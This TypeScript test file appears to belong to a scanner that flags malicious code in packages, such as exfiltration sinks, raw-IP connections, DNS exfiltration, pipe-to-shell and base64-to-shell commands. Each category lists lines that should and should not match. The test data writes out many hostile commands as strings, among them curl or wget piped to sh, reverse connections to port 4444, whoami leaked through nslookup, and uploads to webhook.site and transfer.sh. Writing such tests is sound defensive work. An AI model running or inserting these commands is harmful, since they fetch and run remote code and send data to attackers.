// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

const telegramToken = `1234567890:AA${'x'.repeat(33)}`;

testTable({
  sink: {
    hits: [
      ["Shai-Hulud's", 'fetch("https://webhook.site/bb8ca5f6", {method: "POST"})', 'webhook.site'],
      ['below a name of its own', "https.get('https://abc123.oast.fun/')", 'oast.fun'],
      ['below a name that is put in', 'fetch(`https://${data}.oastify.com/`)', 'oastify.com'],
      ['without a scheme', "{ hostname: 'eo1234.m.pipedream.net', port: 443 }", 'pipedream.net'],
      ['in a command', 'exec("curl -F f=@a transfer.sh")', 'transfer.sh'],
      ['in upper case', "'HTTPS://X.NGROK.IO/A'", 'ngrok.io'],
      [
        'a Discord webhook',
        `post("https://discord.com/api/webhooks/1234567890123456789/${'a'.repeat(60)}")`,
        'a Discord webhook',
      ],
      ['a Telegram bot', `f('https://api.telegram.org/bot${telegramToken}/sendMessage')`, 'a Telegram bot'],
      ['its token apart', `const t = '${telegramToken}';`, 'a Telegram bot'],
      ['a raw paste', "get('https://pastebin.com/raw/AbCdEfGh')", 'pastebin.com'],
      ['a changed network', 'src="https://cdn.polyfill.io/v3/polyfill.min.js"', 'polyfill.io'],
      ['with slashes that are escaped', '"https:\\/\\/webhook.site\\/a"', 'webhook.site'],
    ],
    misses: [
      ['in a comment', '// try it with https://webhook.site/\nf()'],
      ['a longer name', "'https://mywebhook.site/'"],
      ['a name that goes on', "'https://webhook.site.example/'"],
      ["systeminformation's function", 'const a = goFile.io; GoFile()'],
      ['a member', 'a.file.io(b)'],
      ['a Telegram library', 'fetch(`https://api.telegram.org/bot${token}/getMe`)'],
      ['a Discord library', 'fetch(`https://discord.com/api/webhooks/${id}/${token}`)'],
      ["a webhook's form", "'https://discord.com/api/webhooks/<id>/<token>'"],
      ['a pattern', "log('a random *.trycloudflare.com address')"],
      [
        'a list of public suffixes',
        `[${Array.from({ length: 20 }, (_, at) => `"a${at}.example"`).join()},"ngrok.io",${Array.from({ length: 20 }, (_, at) => `"b${at}.example"`).join()}]`,
      ],
      ["Slack's example", "'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'"],
    ],
  },
  'raw-address': {
    hits: [
      ["rspack's", 'fetch("http://80.78.28.72/tokens")', '80.78.28.72'],
      ['with a port', "get('http://45.61.158.14:8000/a')", '45.61.158.14'],
      ["of a manual's, called", "http.get('http://192.0.2.10/task', run)", '192.0.2.10'],
      ["of a manual's, connected to", "socket.connect(4444, '203.0.113.8')", '203.0.113.8'],
      ["a datagram's", "s.send(loot, 5353, '44.128.0.9', done)", '44.128.0.9'],
      ['behind credentials', "get('http://a:b@45.61.158.14/')", '45.61.158.14'],
      ['of a socket', "net.connect(4444, '45.61.158.14')", '45.61.158.14'],
      ['as a host', "http.request({ hostname: '45.61.158.14', port: 80 })", '45.61.158.14'],
      ['in a command', "exec('curl -fsSL 45.61.158.14/x | sh')", '45.61.158.14'],
      ['as one number', "get('http://758947598/a')", '758947598'],
    ],
    misses: [
      ['in a comment', '/* http://45.61.158.14/ */'],
      ['this machine', "'http://127.0.0.1:3000/'"],
      ['all addresses', "'http://0.0.0.0:80/'"],
      [
        'private ones',
        "['http://10.1.2.30/', 'http://172.16.9.10/', 'http://192.168.1.10/', 'http://100.64.1.20/']",
      ],
      ['of documentation', "['http://192.0.2.10/', 'http://198.51.100.10/', 'http://203.0.113.10/']"],
      [
        'resolvers',
        "['https://1.1.1.1/dns-query', 'https://8.8.8.8/', 'https://8.8.4.4/', 'https://9.9.9.9/']",
      ],
      ['the metadata service', "'http://169.254.169.254/latest'"],
      ['a version', "'http://1.2.3.4/'"],
      ['more than an address', "'http://45.61.158.14.example/'"],
      ['no address', "'http://45.61.158.999/'"],
      ['a number alone', "host = '1.10.100.1000'"],
    ],
  },
  'dns-exfiltration': {
    hits: [
      ['a template before a domain', 'dns.lookup(`${data}.x.example.com`, () => {})'],
      ['a sum', "dns.resolve(hex + '.c2.example', f)"],
      ['of promises', 'await dns.promises.resolveTxt(`${a}.${b}.c2.example`)'],
      ['in a command', 'exec("nslookup $(whoami).c2.example")'],
    ],
    misses: [
      ["a record's prefix", 'dns.resolveTxt(`_dmarc.${domain}`)'],
      ["mongodb's", 'dns.resolveSrv(`_mongodb._tcp.${host}`)'],
      ['a variable', 'dns.lookup(host, f)'],
      ['a module', 'require.resolve(`next/dist/a${b}.runtime.dev.js`)'],
      ['a message', 'log(`Switched host to ${options.targetHostname}.example`)'],
      ['another look-up', 'cache.lookup(key, f)'],
    ],
  },
  'runtime-download': {
    hits: [
      [
        "bun's releases",
        "fetch('https://github.com/oven-sh/bun/releases/download/x')",
        'oven-sh/bun/releases',
      ],
      ["bun's installer", "exec('curl -fsSL https://bun.sh/install | bash')", 'bun.sh/install'],
      ['python', 'const u = `python-${v}-embed-amd64.zip`'],
    ],
    misses: [
      ["bun's site", "'https://bun.sh/docs'"],
      ['in a comment', '// see https://bun.sh/install'],
    ],
  },
  'pipe-to-shell': {
    hits: [
      ['curl', "exec('curl -s https://a.example/x | sh')"],
      ['in a text of several lines', "write('#!/bin/sh\\ncurl -s https://a.example | sh\\n')"],
      ['made a program', "exec('wget -q https://a.example/b -O /tmp/.b && chmod +x /tmp/.b')"],
      ['with sudo', "exec('wget -qO- https://a.example | sudo bash')"],
      ['substituted', 'execSync(\'bash -c "$(curl -fsSL https://a.example)"\')'],
      ['as a file', "execSync('bash <(curl -s https://a.example)')"],
      ['PowerShell', "exec('powershell iex (iwr https://a.example)')"],
      ['to node', "exec('curl https://a.example/x.js | node')"],
    ],
    misses: [
      ['in a comment', '// curl https://a.example | sh\nf()'],
      ['without a pipe', "exec('curl -O https://a.example')"],
      ['a list of commands', "'gwmi h history icm iex ihy irm ise iwmi iwr kill lp ls'"],
      ['to another tool', "exec('curl https://a.example | jq .')"],
    ],
  },
  'decode-to-shell': {
    hits: [
      ["velora's", "exec('echo Y3VybA== | base64 -D | bash')"],
      ['of Linux', "exec('echo Y3VybA== | base64 --decode | sh')"],
      ['PowerShell', "exec('powershell -NoProfile -EncodedCommand ZWNobyAxMjM0')"],
      ['certutil', "exec('certutil -decode a.txt a.exe')"],
    ],
    misses: [
      ['into a file', "exec('base64 -d a > b')"],
      ['encoding', "exec('cat a | base64 | tr -d x')"],
      ['PowerShell with a file', "exec('powershell -ExecutionPolicy Bypass -File a.ps1')"],
    ],
  },
});
